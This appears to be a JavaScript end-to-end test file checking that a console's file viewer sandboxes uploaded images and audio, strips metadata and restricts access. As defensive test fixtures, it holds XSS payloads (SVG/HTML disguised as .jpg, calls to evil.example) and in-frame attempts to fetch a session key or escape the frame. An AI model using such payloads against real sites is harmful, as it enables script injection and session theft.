// Files in the console (docs/adr/0011-files.md): shown in a frame that can do nothing, saved as they came, and never run.

import { test } from "node:test";
import assert from "node:assert/strict";
import { readFile } from "node:fs/promises";
import { deflateSync } from "node:zlib";
import { axe, picture } from "../lib/browser.mjs";
import * as canary from "../lib/canaries.mjs";
import * as operator from "../lib/operator.mjs";
import * as reporter from "../lib/reporter.mjs";
import { sql } from "../lib/store.mjs";
import { assertClean, stage } from "../lib/story.mjs";

const here = stage();

/** A small picture, with a remark in it that cleaning takes away. */
function png(remark) {
  const size = 64;
  const rows = Buffer.concat(Array.from({ length: size }, (_, row) => Buffer.concat([Buffer.from([0]), Buffer.alloc(size * 3, row * 3)])));
  const chunk = (name, data) => {
    const body = Buffer.concat([Buffer.from(name, "latin1"), data]);
    const whole = Buffer.alloc(body.length + 8);
    whole.writeUInt32BE(data.length, 0);
    body.copy(whole, 4);
    whole.writeUInt32BE(checksum(body), body.length + 4);
    return whole;
  };
  const head = Buffer.alloc(13);
  head.writeUInt32BE(size, 0);
  head.writeUInt32BE(size, 4);
  head.set([8, 2, 0, 0, 0], 8);
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk("IHDR", head),
    chunk("tEXt", Buffer.from(`Comment\0${remark}`, "latin1")),
    chunk("IDAT", deflateSync(rows)),
    chunk("IEND", Buffer.alloc(0)),
  ]);
}

/** The checksum of a part of a PNG. */
function checksum(bytes) {
  let sum = ~0;
  for (const byte of bytes) {
    sum ^= byte;
    for (let bit = 0; bit < 8; bit += 1) sum = (sum >>> 1) ^ (sum & 1 ? 0xedb88320 : 0);
  }
  return ~sum >>> 0;
}

/** A second of sound, as a browser records it. */
async function recording(page) {
  const bytes = await page.evaluate(async () => {
    const sound = new AudioContext();
    const tone = sound.createOscillator();
    const out = sound.createMediaStreamDestination();
    tone.connect(out);
    tone.start();
    const recorder = new MediaRecorder(out.stream, { mimeType: "audio/webm;codecs=opus" });
    const parts = [];
    recorder.ondataavailable = ({ data }) => parts.push(data);
    const ended = new Promise((resolve) => (recorder.onstop = resolve));
    recorder.start();
    await new Promise((resolve) => setTimeout(resolve, 1_000));
    recorder.stop();
    await ended;
    return [...new Uint8Array(await new Blob(parts).arrayBuffer())];
  });
  return Buffer.from(bytes);
}

const SCRIPT = "try { parent.document.title = 'taken' } catch (e) {} fetch('http://evil.example/x'); localStorage.taken = 1";
const HOSTILE = {
  "foto.jpg": Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="${SCRIPT}"><script>${SCRIPT}</script><image href="http://evil.example/y"/></svg>`),
  "altra.jpg": Buffer.from(`<!doctype html><script>${SCRIPT}</script><img src="http://evil.example/z" onerror="${SCRIPT}">`),
};
const PDF = Buffer.from(`%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF ${canary.sentence("carta")}`);

/** She writes with files; those that cannot be cleaned she sends as they are. Returns the case. */
async function reportWith(t, files) {
  const { page } = await here.visit(t);
  const known = new Set((await sql(here.server, "SELECT lower(hex(id)) AS id FROM report")).map(({ id }) => id));
  await page.goto("/it/places/pisa/b");
  await reporter.formReady(page);
  await reporter.fill(page, { text: canary.sentence("Con dei file.") });
  await page.locator("#attach").evaluate((part) => (part.open = true));
  for (const file of files) {
    const listed = await page.locator("#attach-list .item").count();
    await page.setInputFiles("#attach-file", file);
    const line = page.locator("#attach-list .item").nth(listed);
    const choice = line.locator("input[type=checkbox]");
    await choice.waitFor({ state: "visible" });
    if (file.original ?? true) await choice.check();
  }
  await reporter.send(page);
  const rows = await sql(here.server, "SELECT lower(hex(id)) AS id FROM report");
  const { id } = rows.find((row) => !known.has(row.id));
  return id.replace(/^(.{8})(.{4})(.{4})(.{4})(.{12})$/, "$1-$2-$3-$4-$5");
}

/** An operator who has the case open, and the line of each file by its name. */
async function opened(t, caseId, options = {}) {
  const one = await here.visit(t, options);
  await operator.signIn(one.page, { language: "it", account: here.server.account("marta.pisa") });
  await operator.showCase(one.page, { language: "it", caseId });
  await operator.open(one.page);
  const line = (name) => one.page.locator(".files .item").filter({ has: one.page.locator(`[data-part=name]:text-is("${name}")`) });
  return { ...one, line };
}

test("a picture and a voice are shown in a frame of no origin, without storage, cookies or network", async (t) => {
  const remark = canary.sentence("A casa di nonna");
  const { page: any } = await here.visit(t);
  await any.goto("/it/");
  const voice = await recording(any);
  const caseId = await reportWith(t, [
    { name: "lettera.png", mimeType: "image/png", buffer: png(remark), original: false },
    { name: "prova.png", mimeType: "image/png", buffer: png(remark) },
    { name: "voce-1.webm", mimeType: "audio/webm", buffer: voice },
  ]);
  const { page, line, seen } = await opened(t, caseId);
  assert.equal(await line("lettera.png").getAttribute("data-track"), "clean");
  assert.equal(await line("prova.png").getAttribute("data-track"), "original");
  assert.notEqual(await line("lettera.png").locator("[data-part=about]").innerText(), await line("prova.png").locator("[data-part=about]").innerText());
  assert.equal(seen.requests.some(({ path }) => path.includes("/files/")), false, "nothing of a file comes before she asks");
  await picture(page, "files-listed");
  assert.deepEqual(await axe(page), []);

  await line("lettera.png").locator("[data-part=view]").focus();
  await page.keyboard.press("Enter");
  const shown = await frameOf(page, "img");
  assert.deepEqual(await shown.evaluate(() => [document.querySelector("img").naturalWidth, document.querySelector("img").alt]), [64, "lettera.png"]);
  await picture(page, "files-viewer");
  assert.deepEqual(await axe(page), []);
  assert.deepEqual(await confined(shown), { origin: "null", storage: "refused", cookies: "refused", parent: "refused", database: "refused" });
  await page.keyboard.press("Escape");
  assert.equal(await page.isVisible("#viewer"), false);
  assert.match(await page.evaluate(() => document.activeElement.getAttribute("aria-label") ?? ""), /lettera\.png/, "the focus is back at its button");
  await page.waitForFunction(() => !document.querySelector("#viewer-frame").hasAttribute("src"));
  assert.ok(page.frames().slice(1).every((frame) => frame.url() === "about:blank"), "nothing of the file is left in a frame");

  await line("voce-1.webm").locator("[data-part=view]").click();
  const sound = await frameOf(page, "audio");
  assert.ok(await sound.evaluate(() => document.querySelector("audio").duration > 0));
  await page.click("#viewer-close");
  assertClean({ seen });

  // What she chose to send untouched is exactly that; the other one lost the remark.
  const kept = await saved(page, line("prova.png"));
  assert.ok(kept.bytes.equals(png(remark)));
  const clean = await saved(page, line("lettera.png"));
  assert.equal(clean.bytes.includes(remark), false);
  assert.equal(clean.bytes.subarray(1, 4).toString(), "PNG");
});

test("whoever is inside the frame reaches nothing outside, however hard it tries", async (t) => {
  const caseId = await reportWith(t, [{ name: "lettera.png", mimeType: "image/png", buffer: png("x"), original: false }]);
  const { page, line, seen, context } = await opened(t, caseId);
  await line("lettera.png").locator("[data-part=view]").click();
  const inside = await frameOf(page, "img");
  // What the policy stops is named by the browser too, as a request that failed; what comes through ends.
  const answered = [];
  context.on("response", (response) => answered.push(response.url()));
  const tried = await inside.evaluate(async (origin) => {
    const attempt = async (what) => Promise.resolve().then(what).then(() => "went through", () => "refused");
    return {
      fetched: await attempt(() => fetch(`${origin}/console/session-key`, { credentials: "include" })),
      elsewhere: await attempt(() => fetch("http://evil.example/")),
      picture: await new Promise((resolve) => {
        const image = new Image();
        image.onload = () => resolve("went through");
        image.onerror = () => resolve("refused");
        image.src = `${origin}/static/icon.svg`;
      }),
      worker: await attempt(() => new Worker("data:text/javascript,0")),
      evaluated: await attempt(() => (0, eval)("1")),
      left: await attempt(() => {
        top.location = "http://evil.example/";
      }),
      opened: (() => {
        try {
          return open("http://evil.example/") === null ? "refused" : "went through";
        } catch {
          return "refused";
        }
      })(),
    };
  }, here.server.origin);
  assert.deepEqual(new Set(Object.values(tried)), new Set(["refused"]), JSON.stringify(tried));
  assert.deepEqual(answered, [], "and nothing was answered");
  assert.ok(seen.violations.length > 0, "the policy says what it stopped");
  assert.equal(context.pages().length, 1);
  assert.ok(page.url().endsWith(caseId));
});

test("a drawing or a page that calls itself a picture does nothing, is not shown, and can be saved as bytes", async (t) => {
  const caseId = await reportWith(t, Object.entries(HOSTILE).map(([name, buffer]) => ({ name, mimeType: "image/jpeg", buffer })));
  const { page, line, seen } = await opened(t, caseId);
  const title = await page.title();
  for (const [name, bytes] of Object.entries(HOSTILE)) {
    await line(name).locator("[data-part=view]").click();
    await page.waitForFunction((text) => [...document.querySelectorAll("[data-part=state]")].some((place) => place.textContent === text), await page.getAttribute("#texts", "data-file-not-viewable"));
    assert.equal(await page.isVisible("#viewer"), false);
    const kept = await saved(page, line(name));
    assert.ok(kept.bytes.equals(bytes));
    assert.equal(kept.name, name);
  }
  assert.deepEqual(seen.foreign, [], "nothing was called");
  assert.equal(await page.title(), title);
  assert.deepEqual(await page.evaluate(() => Object.keys(localStorage)), []);
  assertClean({ seen });
});

test("a document is not shown: a warning stands beside it, and what is saved is what she sent", async (t) => {
  const caseId = await reportWith(t, [{ name: "referto.pdf", mimeType: "application/pdf", buffer: PDF }]);
  const { page, line, seen } = await opened(t, caseId);
  assert.equal(await line("referto.pdf").locator("[data-part=view]").isVisible(), false);
  assert.ok(await line("referto.pdf").locator("[data-part=warning]").isVisible());
  const kept = await saved(page, line("referto.pdf"));
  assert.ok(kept.bytes.equals(PDF));
  await picture(page, "files-document");
  assertClean({ seen });

  // The server, or somebody on its disk, gives something else.
  await page.route("**/files/**", async (route) => {
    const response = await route.fetch();
    const body = await response.body();
    body[body.length - 40] ^= 1;
    await route.fulfill({ response, body });
  });
  const downloads = [];
  page.on("download", (download) => downloads.push(download));
  await line("referto.pdf").locator("[data-part=save]").click();
  const said = await page.getAttribute("#texts", "data-file-damaged");
  await page.waitForFunction((text) => document.querySelector("[data-part=state]")?.textContent === text, said);
  assert.deepEqual(downloads, [], "nothing of it is handed out");
});

test("files are there for whoever opened the case, and for nobody else", async (t) => {
  const caseId = await reportWith(t, [{ name: "referto.pdf", mimeType: "application/pdf", buffer: PDF }]);
  const { page, line, seen } = await opened(t, caseId);
  await saved(page, line("referto.pdf"));
  const { path } = seen.requests.find((request) => request.path.includes("/files/"));
  const other = await here.visit(t);
  await operator.signIn(other.page, { language: "it", account: here.server.account("chiara.mantova") });
  assert.equal((await other.context.request.get(path)).status(), 404);
  const nobody = await here.visit(t);
  assert.equal((await nobody.context.request.get(path)).status(), 401);
  assert.equal((await nobody.context.request.get("/console/viewer")).status(), 200, "the empty frame is no secret");
  const dark = await opened(t, caseId, { dark: true });
  await picture(dark.page, "files-document-dark");
});

/** The frame of the viewer once the file is in it. */
async function frameOf(page, kind) {
  const frame = page.frameLocator("#viewer-frame");
  await frame.locator(kind).waitFor({ state: kind === "img" ? "visible" : "attached" });
  await page.waitForFunction(() => document.querySelector("#viewer").open);
  return page.frames().find((one) => one !== page.mainFrame());
}

/** What a script inside the frame can reach of the console. */
async function confined(frame) {
  return frame.evaluate(() => {
    const attempt = (what) => {
      try {
        return what() ? "reached" : "empty";
      } catch {
        return "refused";
      }
    };
    return {
      origin: self.origin,
      storage: attempt(() => sessionStorage.length >= 0),
      cookies: attempt(() => typeof document.cookie === "string"),
      parent: attempt(() => parent.document.body),
      database: attempt(() => indexedDB.open("x") && true),
    };
  });
}

/** Saves a file: its name and its bytes. */
async function saved(page, line) {
  const [download] = await Promise.all([page.waitForEvent("download"), line.locator("[data-part=save]").click()]);
  return { name: download.suggestedFilename(), bytes: await readFile(await download.path()) };
}
